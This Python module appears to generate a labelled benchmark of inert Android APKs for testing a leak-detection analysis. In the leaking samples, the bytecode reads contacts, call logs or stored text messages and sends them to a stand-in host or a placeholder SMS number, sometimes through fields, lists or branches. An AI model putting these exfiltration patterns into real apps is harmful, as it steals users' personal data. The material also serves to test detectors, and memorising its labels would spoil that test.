"""Labelled inert samples for the question "does this app send what it reads?": as many that do as that do not.

Each holds one source and, where it says so, one way out. Written without sight of the analysis that they measure.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

from weftline_example.apk.dalvik import FieldRef, MethodRef, Op, label, op
from weftline_example.apk.dex import PRIVATE, Class, Field, Method
from weftline_example.apk.keys import SignerSpec
from weftline_example.apk.phrases import (
    ACTIVITY,
    BUILDER,
    BUNDLE,
    CONTEXT,
    CURSOR,
    RESOLVER,
    STRING,
    URI,
    append,
    call,
    each_row,
    init,
    joined,
    make,
    query,
    static,
    static_field,
    text,
    virtual,
)
from weftline_example.apk.writer import AppSpec, write_apk

_MAIN, _OUT, _IN = "Lorg/sample/Main;", "Lorg/sample/Out;", "Lorg/sample/In;"
_SMS, _LIST, _OBJECT = "Landroid/telephony/SmsManager;", "Ljava/util/ArrayList;", "Ljava/lang/Object;"
_CONTENT = {
    "contacts": ("Landroid/provider/ContactsContract$CommonDataKinds$Phone;", "CONTENT_URI"),
    "call_log": ("Landroid/provider/CallLog$Calls;", "CONTENT_URI"),
    "sms": ("Landroid/provider/Telephony$Sms;", "CONTENT_URI"),
}
_HELD = FieldRef(_MAIN, "held", STRING)


@dataclass(frozen=True, slots=True)
class FlowSample:
    """An app with its label. `leaks`: what is read leaves by `sink`; `why` says how, or why not."""

    name: str
    apk: bytes
    source: str
    sink: str
    leaks: bool
    why: str


def flow_samples() -> tuple[FlowSample, ...]:
    """All samples: nine that leak, nine that do not."""
    return tuple(_sample(*case) for case in (*_LEAKS, *_HARMLESS))


def _sample(
    name: str, source: str, sink: str, leaks: bool, why: str, body: tuple[Op, ...], more: tuple[Method, ...] = ()
) -> FlowSample:
    start = virtual("onCreate", (BUNDLE,), "V", 8, body, op("return-void"))
    main = Class(_MAIN, ACTIVITY, fields=(Field("held", STRING, PRIVATE),), methods=(init(ACTIVITY), start, *more))
    signer = SignerSpec(f"flow {name}", "CN=Flow Sample", datetime(2021, 1, 1, tzinfo=UTC), kind="ec")
    package = f"com.example.flow.{name}"
    spec = AppSpec(package, name, signer, activities=(_MAIN,), classes=(main, _reader(), _ways_out()), schemes=("v2",))
    return FlowSample(name, write_apk(spec), source, sink, leaks, why)


def _reader() -> Class:
    """`In`: one method for each source, giving all rows as one text."""
    return Class(_IN, methods=tuple(_read(name, *place) for name, place in _CONTENT.items()))


def _read(name: str, owner: str, column: str) -> Method:
    take = (
        op("const/4", "v3", lit=0),
        *call("interface", CURSOR, "getString", ("I",), STRING, "v0", "v3", to="v3"),
        *append("v1", "v3"),
    )
    return static(
        name,
        (CONTEXT,),
        STRING,
        6,
        call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
        static_field("v1", owner, column, URI),
        op("const/4", "v2", lit=0),
        query(0, to="v0"),
        make("v1", BUILDER),
        each_row("v0", "v2", take),
        joined("v1", "v0"),
        op("return-object", "v0"),
    )


def _ways_out() -> Class:
    """`Out`: to the network and by SMS; both only take a text."""
    connection, url, stream = "Ljava/net/URLConnection;", "Ljava/net/URL;", "Ljava/io/OutputStream;"
    network = static(
        "network",
        (STRING,),
        "V",
        3,
        text("v1", "https://collect.sample.invalid/in"),
        make("v0", url, (STRING,), "v1"),
        call("virtual", url, "openConnection", (), connection, "v0", to="v0"),
        call("virtual", connection, "getOutputStream", (), stream, "v0", to="v1"),
        call("virtual", STRING, "getBytes", (), "[B", "p0", to="v2"),
        call("virtual", stream, "write", ("[B",), "V", "v1", "v2"),
        op("return-void"),
    )
    pending = "Landroid/app/PendingIntent;"
    sms = static(
        "sms",
        (STRING,),
        "V",
        6,
        call("static", _SMS, "getDefault", (), _SMS, to="v0"),
        text("v1", "+12025550100"),
        op("const/4", "v2", lit=0),
        op("move-object", "v3", "p0"),
        op("const/4", "v4", lit=0),
        op("const/4", "v5", lit=0),
        op(
            "invoke-virtual/range",
            *(f"v{number}" for number in range(6)),
            ref=MethodRef(_SMS, "sendTextMessage", (STRING, STRING, STRING, pending, pending)),
        ),
        op("return-void"),
    )
    return Class(_OUT, methods=(network, sms))


def _taken(source: str, to: str = "v0") -> tuple[Op, ...]:
    return call("static", _IN, source, (CONTEXT,), STRING, "p0", to=to)


def _sent(register: str = "v0", sink: str = "network") -> tuple[Op, ...]:
    return call("static", _OUT, sink, (STRING,), "V", register)


def _own(name: str, *regs: str, params: tuple[str, ...] = (), returns: str = "V", to: str = "") -> tuple[Op, ...]:
    return call("virtual", _MAIN, name, params, returns, *regs, to=to)


_KEEP = virtual("keep", (STRING,), "V", 0, op("iput-object", "p1", "p0", ref=_HELD), op("return-void"))
_SEND_HELD = virtual("sendHeld", (), "V", 1, op("iget-object", "v0", "p0", ref=_HELD), _sent(), op("return-void"))
_SAME = static("same", (STRING,), STRING, 0, op("return-object", "p0"))
_FIXED = static("fixed", (STRING,), STRING, 1, text("v0", "hello"), op("return-object", "v0"))
_NEVER_CALLED = virtual("neverCalled", (), "V", 1, _taken("contacts"), op("return-void"))

_Body = tuple[Op, ...]
_Case = tuple[str, str, str, bool, str, _Body] | tuple[str, str, str, bool, str, _Body, tuple[Method, ...]]

_LEAKS: tuple[_Case, ...] = (
    ("direct", "contacts", "network", True, "read and sent in one method", (*_taken("contacts"), *_sent())),
    ("calls", "call_log", "network", True, "the same with the call log", (*_taken("call_log"), *_sent())),
    ("messages", "sms", "network", True, "the same with stored messages", (*_taken("sms"), *_sent())),
    ("bysms", "contacts", "sms", True, "leaves as a text message", (*_taken("contacts"), *_sent(sink="sms"))),
    (
        "built",
        "contacts",
        "network",
        True,
        "passes through a StringBuilder",
        (
            *_taken("contacts"),
            *make("v1", BUILDER),
            text("v2", "data="),
            *append("v1", "v2"),
            *append("v1", "v0"),
            *joined("v1", "v3"),
            *_sent("v3"),
        ),
    ),
    (
        "field",
        "contacts",
        "network",
        True,
        "kept in a field by one method, sent by another",
        (*_taken("contacts"), *_own("keep", "p0", "v0", params=(STRING,)), *_own("sendHeld", "p0")),
        (_KEEP, _SEND_HELD),
    ),
    (
        "handed",
        "contacts",
        "network",
        True,
        "handed through a method that gives back what it got",
        (*_taken("contacts"), *call("static", _MAIN, "same", (STRING,), STRING, "v0", to="v1"), *_sent("v1")),
        (_SAME,),
    ),
    (
        "list",
        "contacts",
        "network",
        True,
        "put into a list and taken out of it",
        (
            *_taken("contacts"),
            *make("v1", _LIST),
            *call("virtual", _LIST, "add", (_OBJECT,), "Z", "v1", "v0"),
            op("const/4", "v2", lit=0),
            *call("virtual", _LIST, "get", ("I",), _OBJECT, "v1", "v2", to="v3"),
            op("check-cast", "v3", ref=STRING),
            *_sent("v3"),
        ),
    ),
    (
        "branch",
        "contacts",
        "network",
        True,
        "sent on one of two branches",
        (*_taken("contacts"), op("if-eqz", "p1", to="other"), text("v0", "nothing"), label("other"), *_sent()),
    ),
)

_HARMLESS: tuple[_Case, ...] = (
    (
        "constant",
        "contacts",
        "network",
        False,
        "reads, but sends a fixed text",
        (*_taken("contacts"), text("v1", "hello"), *_sent("v1")),
    ),
    (
        "overwritten",
        "contacts",
        "network",
        False,
        "the register is overwritten before it is sent",
        (*_taken("contacts"), text("v0", "hello"), *_sent()),
    ),
    (
        "replaced",
        "contacts",
        "network",
        False,
        "handed to a method that gives back a fixed text",
        (*_taken("contacts"), *call("static", _MAIN, "fixed", (STRING,), STRING, "v0", to="v1"), *_sent("v1")),
        (_FIXED,),
    ),
    (
        "logged",
        "contacts",
        "network",
        False,
        "only written to the log; the network gets a fixed text",
        (
            *_taken("contacts"),
            text("v1", "tag"),
            *call("static", "Landroid/util/Log;", "d", (STRING, STRING), "I", "v1", "v0"),
            *_sent("v1"),
        ),
    ),
    (
        "shown",
        "contacts",
        "network",
        False,
        "only shown on the screen; the network gets a fixed text",
        (
            *_taken("contacts"),
            op("const/4", "v1", lit=0),
            *call(
                "static",
                "Landroid/widget/Toast;",
                "makeText",
                (CONTEXT, "Ljava/lang/CharSequence;", "I"),
                "Landroid/widget/Toast;",
                "p0",
                "v0",
                "v1",
                to="v2",
            ),
            text("v3", "shown"),
            *_sent("v3"),
        ),
    ),
    (
        "dead",
        "contacts",
        "network",
        False,
        "the sending branch is never taken",
        (*_taken("contacts"), op("const/4", "v1", lit=0), op("if-eqz", "v1", to="past"), *_sent(), label("past")),
    ),
    (
        "unused",
        "contacts",
        "network",
        False,
        "a method that nobody calls reads; another one sends a fixed text",
        (text("v0", "hello"), *_sent()),
        (_NEVER_CALLED,),
    ),
    (
        "otherfield",
        "contacts",
        "network",
        False,
        "the field is overwritten before it is sent",
        (
            *_taken("contacts"),
            *_own("keep", "p0", "v0", params=(STRING,)),
            text("v1", "hello"),
            *_own("keep", "p0", "v1", params=(STRING,)),
            *_own("sendHeld", "p0"),
        ),
        (_KEEP, _SEND_HELD),
    ),
    (
        "before",
        "contacts",
        "network",
        False,
        "sends a fixed text first and reads afterwards",
        (text("v0", "hello"), *_sent(), *_taken("contacts")),
    ),
)
